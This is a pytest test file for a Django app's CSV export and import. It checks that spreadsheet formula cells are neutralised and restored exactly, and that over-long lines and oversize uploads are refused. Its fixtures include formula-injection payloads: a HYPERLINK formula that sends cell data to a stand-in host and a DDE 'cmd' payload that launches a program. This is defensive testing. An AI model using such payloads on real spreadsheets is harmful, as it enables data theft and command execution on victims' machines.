"""Cells that a spreadsheet would run as formulas leave the export
neutralised and come back exact on import; a bundle line is read with a
bound; a request body over the upload limit is refused before it is read."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from clients.models import Client
from interchange.exporting import export_bundle
from interchange.formulas import neutralise, restore
from interchange.importing import import_bundle
from services.models import User
from tests.factories import MembershipFactory, ReferralFactory, UserFactory
from tests.interchange.helpers import COLUMNS
from tests.interchange.test_round_trip import empty_the_database

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "'already quoted",
    "''two quotes",
    "plain",
]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_neutralise_then_restore_is_exact(cell):
    out = neutralise(cell)
    assert not out.startswith(("=", "+", "-", "@"))
    assert restore(out) == cell


def test_an_exported_formula_is_inert_and_the_round_trip_exact(tmp_path, service_a):
    names = {}
    for text in DANGEROUS:
        client = ReferralFactory(service=service_a, client__preferred_name=text[:40]).client
        names[client.reference] = text[:40]
    MembershipFactory(
        user=UserFactory(username="formula", full_name="=cmd|' /C calc'!A0"), service=service_a
    )
    export_bundle(tmp_path / "out")
    with open(tmp_path / "out" / "clients.csv", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        assert not row["preferred_name"].startswith(("=", "+", "-", "@")), row
    empty_the_database()
    report = import_bundle(tmp_path / "out")
    assert report.ok, report.lines()[:10]
    back = dict(Client.objects.values_list("reference", "preferred_name"))
    assert back == names
    assert User.objects.get(username="formula").full_name == "=cmd|' /C calc'!A0"


def test_a_line_longer_than_the_limit_is_refused_without_reading_it_whole(tmp_path, settings):
    settings.INTERCHANGE_MAX_LINE_BYTES = 1000
    path = tmp_path / "bundle.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        header = ",".join(COLUMNS["clients.csv"])
        archive.writestr("clients.csv", header + "\n" + "x" * 5_000_000 + "\n")
    report = import_bundle(path)
    assert not report.ok
    reasons = [p.reason for p in report.problems]
    assert any("a line longer than 1,000 bytes" in r for r in reasons), reasons


def test_a_request_body_over_the_upload_limit_is_refused_before_reading(client_as, bob, settings):
    settings.INTERCHANGE_MAX_UPLOAD_BYTES = 10_000

    class Unreadable(io.BytesIO):
        def read(self, *args):
            raise AssertionError("the body was read")

    browser = client_as(bob)
    response = browser.generic(
        "POST",
        reverse("interchange:index"),
        data=b"",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(200_000),
        **{"wsgi.input": Unreadable()},
    )
    assert response.status_code == 413
